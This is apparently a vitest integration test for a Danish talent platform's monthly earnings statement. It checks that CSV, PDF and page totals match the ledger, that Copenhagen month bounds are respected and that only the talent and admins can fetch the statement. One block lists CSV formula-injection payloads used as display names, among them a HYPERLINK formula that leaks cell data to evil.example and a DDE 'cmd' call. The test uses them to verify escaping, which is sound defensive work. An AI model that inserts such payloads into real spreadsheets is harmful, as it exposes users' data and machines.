/**
 * The talent's statement of earnings (cms/domain/wallet/statement.ts, /wallet/statement and its
 * CSV and PDF) equals the ledger for the Copenhagen month to the øre: bookings paid and a payoff
 * through the real flow this month; a crafted October 2025 with postings just inside and just
 * outside its Copenhagen bounds (summer time at the start, winter time at the end), a refund, a
 * payoff approval that counts nowhere and another talent's lines. Only the talent and admins get it.
 * A display name written as a formula reaches neither the talent's nor the admin's spreadsheet as one.
 */
import pg from 'pg';
import { extractText } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  acceptedBooking,
  bookingStatus,
  createBookingWorld,
  creditAvailable,
  dateInDays,
  must,
  page,
  payBooking,
  type BookingWorld,
  postLedger,
  type LedgerLine,
} from '../support/bookings';
import { parseCsv, runsAsFormula } from '../support/csv';
import { startServer, type TestServer, type Visitor } from '../support/server';

let server: TestServer;
let w: BookingWorld;
const bookingIds: string[] = [];

beforeAll(async () => {
  server = await startServer({ SCHEDULER_INTERVAL_MS: '0' });
  w = await createBookingWorld(server.url);
  for (const days of [30, 31]) {
    const id = await acceptedBooking(w, dateInDays(days), '18:00', days === 30 ? 10 : 4);
    await payBooking(w, id);
    for (let i = 0; i < 100 && (await bookingStatus(w, id)) !== 'paid'; i++) await new Promise((ok) => setTimeout(ok, 100));
    expect(await bookingStatus(w, id)).toBe('paid');
    bookingIds.push(id);
  }
  // A payoff transferred this month (requested, approved, paid).
  await creditAvailable(w, w.talent1.profileId, 40_000);
  const payoff = await must(w.talent1.visitor, `mutation { requestPayoff(amount: 30000) { id } }`);
  await must(w.admin, `mutation($id: ID!) { approvePayoff(id: $id) { id } }`, { id: payoff.requestPayoff.id });
  await must(w.admin, `mutation($id: ID!) { markPayoffPaid(id: $id, bankReference: "REF-1") { id } }`, { id: payoff.requestPayoff.id });

  // October 2025 in Copenhagen: 2025-09-30T22:00Z (summer time) until 2025-10-31T23:00Z (winter time).
  const [b1] = bookingIds;
  const paid = (at: string, total: number, commission: number) => [
    { account: 'stripe_clearing', amount: total, booking: b1, at },
    { account: 'platform_commission', amount: -commission, booking: b1, at },
    { account: 'talent_pending', amount: -(total - commission), booking: b1, talent: w.talent1.profileId, at },
  ];
  await post(paid('2025-09-30T21:59:59Z', 40_000, 6_000)); // 30 September 23:59:59 — September
  await post(paid('2025-09-30T22:00:00Z', 100_000, 15_000)); // 1 October 00:00 — in
  await post(paid('2025-10-31T22:59:00Z', 50_000, 7_500)); // 31 October 23:59 — in
  await post(paid('2025-10-31T23:00:00Z', 80_000, 12_000)); // 1 November 00:00 — November
  // A refund of 200 kr. (its talent and fee share back), 15 October.
  await post([
    { account: 'talent_pending', amount: 17_000, booking: b1, talent: w.talent1.profileId, at: '2025-10-15T10:00:00Z' },
    { account: 'platform_commission', amount: 3_000, booking: b1, at: '2025-10-15T10:00:00Z' },
    { account: 'customer_refunds', amount: -20_000, booking: b1, at: '2025-10-15T10:00:00Z' },
  ]);
  // Earnings released (counts nowhere), a payoff approved (nowhere) and paid out (payouts), 20 October.
  await post([
    { account: 'talent_pending', amount: 50_000, booking: b1, talent: w.talent1.profileId, at: '2025-10-18T10:00:00Z' },
    { account: 'talent_available', amount: -50_000, booking: b1, talent: w.talent1.profileId, at: '2025-10-18T10:00:00Z' },
  ]);
  await post([
    { account: 'talent_available', amount: 30_000, talent: w.talent1.profileId, at: '2025-10-20T10:00:00Z' },
    { account: 'talent_payout', amount: -30_000, talent: w.talent1.profileId, at: '2025-10-20T10:00:00Z' },
  ]);
  await post([
    { account: 'talent_payout', amount: 30_000, talent: w.talent1.profileId, at: '2025-10-21T10:00:00Z' },
    { account: 'stripe_clearing', amount: -30_000, at: '2025-10-21T10:00:00Z' },
  ]);
  // Another talent's earnings in October: not talent 1's.
  await post([
    { account: 'stripe_clearing', amount: 9_900, at: '2025-10-10T10:00:00Z' },
    { account: 'talent_pending', amount: -9_900, talent: w.talent2.profileId, at: '2025-10-10T10:00:00Z' },
  ]);
});
afterAll(async () => {
  await server?.stop();
});

type Line = LedgerLine;
const post = (lines: Line[]) => postLedger(w, lines);

/** "2490,50" → 249050; "-10,50" → −1050. */
const ore = (text: string) => {
  const [kr, decimals] = text.replace('-', '').split(',');
  return (text.startsWith('-') ? -1 : 1) * (Number(kr) * 100 + Number(decimals));
};

async function download(visitor: Visitor, path: string) {
  const res = await fetch(server.url + path, { headers: visitor.cookie ? { cookie: visitor.cookie } : {}, redirect: 'manual' });
  return { status: res.status, type: res.headers.get('content-type') ?? '', bytes: new Uint8Array(await res.arrayBuffer()) };
}

/** The "I alt" row of a statement CSV: gross, fee, moms, net, payouts in øre. */
function csvTotals(bytes: Uint8Array) {
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 BOM for Excel
  const rows = new TextDecoder()
    .decode(bytes)
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .map((row) => row.split(';'));
  const total = rows.find((row) => row[0] === 'I alt')!;
  const [gross, fee, vat, net, payouts] = total.slice(2).map(ore);
  return { rows, totals: { gross, fee, vat, net, payouts } };
}

const thisMonth = () => {
  const [year, month] = dateInDays(0).split('-').map(Number);
  return { year, month };
};

describe('the statement of a month equals the ledger', () => {
  it('this month: the paid bookings and the payoff, to the øre', async () => {
    const bookings = await must(
      w.admin,
      `query($ids: [ID!]) { bookings(where: { id: { in: $ids } }) { commissionAmount talentAmount totalAmount } }`,
      { ids: bookingIds },
    );
    const fee = bookings.bookings.reduce((s: number, b: any) => s + b.commissionAmount, 0);
    const net = bookings.bookings.reduce((s: number, b: any) => s + b.talentAmount, 0);
    const { year, month } = thisMonth();
    const { status, bytes } = await download(w.talent1.visitor, `/wallet/statement.csv?aar=${year}&maaned=${month}`);
    expect(status).toBe(200);
    const { totals } = csvTotals(bytes);
    // The test's own credit (creditAvailable) has no booking: a correction of 400 kr. with no fee.
    expect(totals).toEqual({ gross: fee + net + 40_000, fee, vat: totals.vat, net: net + 40_000, payouts: 30_000 });
    expect(totals.vat).toBe(bookings.bookings.reduce((s: number, b: any) => s + Math.round((b.commissionAmount * 25) / 125), 0));
  });

  it('October 2025: only what falls inside the Copenhagen month; releases and approvals count nowhere', async () => {
    const { status, type, bytes } = await download(w.talent1.visitor, '/wallet/statement.csv?aar=2025&maaned=10');
    expect(status).toBe(200);
    expect(type).toContain('text/csv');
    const { rows, totals } = csvTotals(bytes);
    expect(totals).toEqual({ gross: 130_000, fee: 19_500, vat: 3_000 + 1_500 - 600, net: 110_500, payouts: 30_000 });
    expect(rows.find((row) => row[0] === 'Periode')?.[1]).toBe('oktober 2025');
    // Danish dates and decimal commas, never ISO: the first posting is 1 October (Copenhagen).
    expect(rows.some((row) => row[0] === '01.10.2025' && row.includes('1000,00'))).toBe(true);
    expect(rows.some((row) => row[0] === '31.10.2025' && row.includes('500,00'))).toBe(true);
    expect(new TextDecoder().decode(bytes)).not.toMatch(/2025-10-|99,00/);
  });

  it('the year 2025 adds September and November, month by month', async () => {
    const { bytes } = await download(w.talent1.visitor, '/wallet/statement.csv?aar=2025');
    const { rows, totals } = csvTotals(bytes);
    expect(totals.fee).toBe(19_500 + 6_000 + 12_000);
    expect(totals.net).toBe(110_500 + 34_000 + 68_000);
    const month = (name: string) =>
      rows
        .find((row) => row[0] === `${name} 2025`)!
        .slice(2)
        .map(ore);
    expect(month('september')).toEqual([40_000, 6_000, 1_200, 34_000, 0]);
    expect(month('oktober')).toEqual([130_000, 19_500, 3_900, 110_500, 30_000]);
    expect(month('november')).toEqual([80_000, 12_000, 2_400, 68_000, 0]);
  });

  it('the year page shows the CSV totals month by month (summed in the database) and links each month, without its lines', async () => {
    const { html, status } = await page(server.url, w.talent1.visitor, '/wallet/statement?aar=2025&maaned=');
    expect(status).toBe(200);
    expect(html).toMatch(/data-total="net"[^>]*><dt[^>]*>[^<]+<\/dt><dd[^>]*>2\.125(&nbsp;|\s| )kr\./);
    expect(html).toMatch(/data-total="vat"[^>]*><dt[^>]*>[^<]+<\/dt><dd[^>]*>75(&nbsp;|\s| )kr\./);
    const october = html.match(/<tr data-month="10"[^>]*>([\s\S]*?)<\/tr>/)?.[1] ?? '';
    expect(october).toContain('href="/wallet/statement?aar=2025&amp;maaned=10"');
    const cells = [...october.matchAll(/class="amount"[^>]*>([^<]*)</g)].map((m) => m[1].replace(/&nbsp;|\s/g, ' '));
    expect(cells).toEqual(['1.300 kr.', '195 kr.', '1.105 kr.', '300 kr.']);
    expect(html).not.toContain('data-line=');
  });

  it('the page and the PDF show the same totals in Danish', async () => {
    const { html, status } = await page(server.url, w.talent1.visitor, '/wallet/statement?aar=2025&maaned=10');
    expect(status).toBe(200);
    expect(html).toMatch(/data-total="net"[^>]*><dt[^>]*>[^<]+<\/dt><dd[^>]*>1\.105(&nbsp;|\s| )kr\./);
    expect(html).toContain('oktober 2025');
    const pdf = await download(w.talent1.visitor, '/wallet/statement.pdf?aar=2025&maaned=10');
    expect(pdf.status).toBe(200);
    expect(pdf.type).toBe('application/pdf');
    const { text } = await extractText(pdf.bytes, { mergePages: true });
    const flat = text.replace(/\s+/g, ' ');
    for (const amount of ['1.300,00 kr.', '195,00 kr.', '39,00 kr.', '1.105,00 kr.', '300,00 kr.']) expect(flat).toContain(amount);
    expect(flat).toContain('Opgørelse over indtjening');
    expect(flat).toContain('oktober 2025');
  });
});

describe('only the talent and admins', () => {
  const path = '/wallet/statement.csv?aar=2025&maaned=10';
  it('another talent, a customer and an anonymous visitor get nothing of it', async () => {
    const other = await download(w.talent2.visitor, `${path}&talent=${w.talent1.profileId}`);
    expect(other.status).toBe(404);
    const otherText = new TextDecoder().decode(other.bytes);
    expect(otherText).not.toContain('1105');
    expect(otherText).not.toContain('Talent Et');
    // Their own statement has none of talent 1's numbers (and not their own October 99 kr. hidden).
    const own = await download(w.talent2.visitor, path);
    expect(own.status).toBe(200);
    expect(csvTotals(own.bytes).totals).toEqual({ gross: 9_900, fee: 0, vat: 0, net: 9_900, payouts: 0 });
    for (const visitor of [w.customerA.visitor, w.anonymous]) {
      for (const p of [path, path.replace('.csv', '.pdf'), `${path}&talent=${w.talent1.profileId}`]) {
        const res = await download(visitor, p);
        expect(res.status, p).toBe(403);
        expect(new TextDecoder().decode(res.bytes)).not.toMatch(/1105|Talent Et|%PDF/);
      }
    }
    expect((await page(server.url, w.customerA.visitor, '/wallet/statement')).status).toBe(403);
    expect((await page(server.url, w.anonymous, '/wallet/statement')).status).toBe(302);
  });

  it("an admin reads any talent's statement by id", async () => {
    const res = await download(w.admin, `${path}&talent=${w.talent1.profileId}`);
    expect(res.status).toBe(200);
    expect(csvTotals(res.bytes).totals.net).toBe(110_500);
  });
});

describe('a display name written as a formula', () => {
  // The name rule refuses these from the talent; an admin's edit (or an older row) still holds them.
  const payloads = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\n=1+1',
    '＝1+1',
  ];

  it('arrives as text in the CSV, for the talent and for the admin', async () => {
    const { updateTalentProfile } = await must(
      w.admin,
      `query($id: ID!) { updateTalentProfile: talentProfile(where: { id: $id }) { displayName } }`,
      { id: w.talent2.profileId },
    );
    try {
      for (const payload of payloads) {
        await must(
          w.admin,
          `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`,
          { id: w.talent2.profileId, name: payload },
        );
        for (const [who, path] of [
          ['talent', '/wallet/statement.csv?aar=2025&maaned=10'],
          ['admin', `/wallet/statement.csv?aar=2025&maaned=10&talent=${w.talent2.profileId}`],
        ] as const) {
          const res = await download(who === 'talent' ? w.talent2.visitor : w.admin, path);
          expect(res.status, who).toBe(200);
          const rows = parseCsv(new TextDecoder().decode(res.bytes));
          const nameRow = rows.find((row) => row[0] === 'Talent')!;
          expect(nameRow, `${who}: ${JSON.stringify(payload)}`).toEqual(['Talent', `'${payload}`]);
          const textCells = rows.flat().filter((cell) => !/^-?\d+,\d\d$/.test(cell)); // amounts are numbers
          expect(textCells.filter(runsAsFormula), who).toEqual([]);
        }
      }
    } finally {
      await must(
        w.admin,
        `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`,
        { id: w.talent2.profileId, name: updateTalentProfile.displayName },
      );
    }
  });
});

describe('the month totals kept beside the ledger', () => {
  type Totals = { gross: number; fee: number; vat: number; net: number; payouts: number };
  const zero = (): Totals => ({ gross: 0, fee: 0, vat: 0, net: 0, payouts: 0 });
  const copenhagenMonth = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Copenhagen', year: 'numeric', month: 'numeric' });

  /**
   * Talent 1's months of `year`, summed here from the ledger lines themselves: a line is theirs when
   * it names them, or names no talent and belongs to one of their bookings; each transaction's lines
   * of one Copenhagen month count together (payouts only when it pays out; moms rounded per transaction).
   */
  async function ledgerMonths(year: number) {
    const db = new pg.Client({ connectionString: server.databaseUrl });
    await db.connect();
    const { rows } = await db
      .query(
        `SELECT e."transactionId" AS tx, e."account", e."amount", (extract(epoch FROM e."createdAt") * 1000)::float8 AS ms
           FROM "LedgerEntry" e LEFT JOIN "Booking" b ON b."id" = e."booking"
          WHERE COALESCE(e."talent", b."talent") = $1`,
        [w.talent1.profileId],
      )
      .finally(() => db.end());
    const groups = new Map<string, { month: number; lines: { account: string; amount: number }[] }>();
    for (const row of rows) {
      const parts = copenhagenMonth.formatToParts(new Date(row.ms));
      if (Number(parts.find((p) => p.type === 'year')!.value) !== year) continue;
      const month = Number(parts.find((p) => p.type === 'month')!.value);
      const group = groups.get(`${row.tx} ${month}`) ?? { month, lines: [] };
      group.lines.push({ account: row.account, amount: row.amount });
      groups.set(`${row.tx} ${month}`, group);
    }
    const months = Array.from({ length: 12 }, zero);
    for (const { month, lines } of groups.values()) {
      const sum = (...accounts: string[]) => lines.filter((l) => accounts.includes(l.account)).reduce((s, l) => s + l.amount, 0);
      const target = months[month - 1];
      if (lines.some((l) => l.account === 'talent_payout')) {
        target.payouts += lines.filter((l) => l.account === 'talent_payout' && l.amount > 0).reduce((s, l) => s + l.amount, 0);
        continue;
      }
      const fee = -sum('platform_commission');
      const net = -sum('talent_pending', 'talent_available');
      target.gross += fee + net;
      target.fee += fee;
      target.vat += Math.sign(fee) * Math.round((Math.abs(fee) * 25) / 125);
      target.net += net;
    }
    return months;
  }

  /** "1.300 kr." / "-2,50 kr." → øre. */
  const oreOf = (text: string) => Math.round(Number(text.replace(/kr\.|\s|&nbsp;|\./g, '').replace(',', '.')) * 100);

  /** What the year page shows: each month's gross, fee, net and payouts, and the year's five totals. */
  async function yearPage(year: number) {
    const { html, status } = await page(server.url, w.talent1.visitor, `/wallet/statement?aar=${year}&maaned=`);
    expect(status).toBe(200);
    const months = Array.from({ length: 12 }, (_, i) => {
      const row = html.match(new RegExp(`<tr data-month="${i + 1}"[^>]*>([\\s\\S]*?)</tr>`))?.[1] ?? '';
      return [...row.matchAll(/class="amount"[^>]*>([^<]*)</g)].map((m) => oreOf(m[1]));
    });
    const total = (key: string) =>
      oreOf(html.match(new RegExp(`data-total="${key}"[^>]*><dt[^>]*>[^<]+</dt><dd[^>]*>([^<]+)<`))?.[1] ?? '');
    return {
      months,
      totals: { gross: total('gross'), fee: total('fee'), vat: total('vat'), net: total('net'), payouts: total('payouts') },
    };
  }

  async function expectPageEqualsLedger(year: number) {
    const [expected, shown, csv] = [
      await ledgerMonths(year),
      await yearPage(year),
      csvTotals((await download(w.talent1.visitor, `/wallet/statement.csv?aar=${year}`)).bytes),
    ];
    expect(shown.months, `${year}: gross, fee, net, payouts by month`).toEqual(expected.map((m) => [m.gross, m.fee, m.net, m.payouts]));
    const sum = expected.reduce(
      (t, m) => ({ gross: t.gross + m.gross, fee: t.fee + m.fee, vat: t.vat + m.vat, net: t.net + m.net, payouts: t.payouts + m.payouts }),
      zero(),
    );
    expect(shown.totals, `${year}: the year`).toEqual(sum);
    // The CSV reads the lines themselves and agrees month by month.
    const csvMonths = csv.rows.filter((row) => row[0].endsWith(` ${year}`)).map((row) => row.slice(2).map(ore));
    expect(csvMonths, `${year}: the CSV`).toEqual(expected.map((m) => [m.gross, m.fee, m.vat, m.net, m.payouts]));
    return expected;
  }

  it('two lines of one transaction written by two connections at once count as one transaction', async () => {
    // A payoff approval (counts nowhere) whose two lines arrive on two connections: the second
    // insert's statement runs while the first has not committed yet.
    const [first, second] = [
      new pg.Client({ connectionString: server.databaseUrl }),
      new pg.Client({ connectionString: server.databaseUrl }),
    ];
    await Promise.all([first.connect(), second.connect()]);
    try {
      const insert = `INSERT INTO "LedgerEntry" ("id", "transactionId", "account", "amount", "talent", "createdAt") VALUES ($1, 'two-connections', $2, $3, $4, '2023-05-05 10:00')`;
      await first.query('BEGIN');
      await first.query(insert, ['two-connections-1', 'talent_available', 7_000, w.talent1.profileId]);
      const later = second.query(insert, ['two-connections-2', 'talent_payout', -7_000, w.talent1.profileId]);
      await new Promise((ok) => setTimeout(ok, 300));
      await first.query('COMMIT');
      await later;
    } finally {
      await Promise.all([first.end(), second.end()]);
    }
    const months = await expectPageEqualsLedger(2023);
    expect(months[4]).toEqual(zero());
  });

  it('the year page shows the sums of the ledger lines, also after new postings by the booking flow and by an admin', async () => {
    const thisYear = Number(dateInDays(0).slice(0, 4));
    for (const year of [2024, 2025, thisYear]) await expectPageEqualsLedger(year);

    // A booking paid through the real flow this year.
    const id = await acceptedBooking(w, dateInDays(33), '18:00', 7);
    await payBooking(w, id);
    for (let i = 0; i < 100 && (await bookingStatus(w, id)) !== 'paid'; i++) await new Promise((ok) => setTimeout(ok, 100));
    expect(await bookingStatus(w, id)).toBe('paid');
    // An admin's corrections in 2024, each line created on its own: two fees of 10,02 kr. (moms 2 kr.
    // each, not 4,01 kr. of their sum), a payoff approval (counts nowhere) and a transaction whose
    // lines fall on both sides of midnight between 31 October and 1 November in Copenhagen.
    const [b1] = bookingIds;
    const t1 = w.talent1.profileId;
    for (const at of ['2024-03-10T10:00:00Z', '2024-03-11T10:00:00Z']) {
      await post([
        { account: 'stripe_clearing', amount: 6_680, booking: b1, at },
        { account: 'platform_commission', amount: -1_002, booking: b1, at },
        { account: 'talent_pending', amount: -5_678, booking: b1, talent: t1, at },
      ]);
    }
    await post([
      { account: 'talent_available', amount: 5_000, talent: t1, at: '2024-03-15T10:00:00Z' },
      { account: 'talent_payout', amount: -5_000, talent: t1, at: '2024-03-15T10:00:00Z' },
    ]);
    await post([
      { account: 'stripe_clearing', amount: 10_000, booking: b1, at: '2024-10-31T22:59:30Z' },
      { account: 'platform_commission', amount: -1_500, booking: b1, at: '2024-10-31T22:59:30Z' },
      { account: 'talent_pending', amount: -8_500, booking: b1, talent: t1, at: '2024-10-31T23:00:30Z' },
    ]);

    const months2024 = await expectPageEqualsLedger(2024);
    expect(months2024[2]).toEqual({ gross: 13_360, fee: 2_004, vat: 400, net: 11_356, payouts: 0 });
    expect(months2024[9]).toEqual({ gross: 1_500, fee: 1_500, vat: 300, net: 0, payouts: 0 });
    expect(months2024[10]).toEqual({ gross: 8_500, fee: 0, vat: 0, net: 8_500, payouts: 0 });
    await expectPageEqualsLedger(2025);
    const months = await expectPageEqualsLedger(thisYear);
    expect(months.reduce((s, m) => s + m.fee, 0)).toBeGreaterThan(0);
  });
});
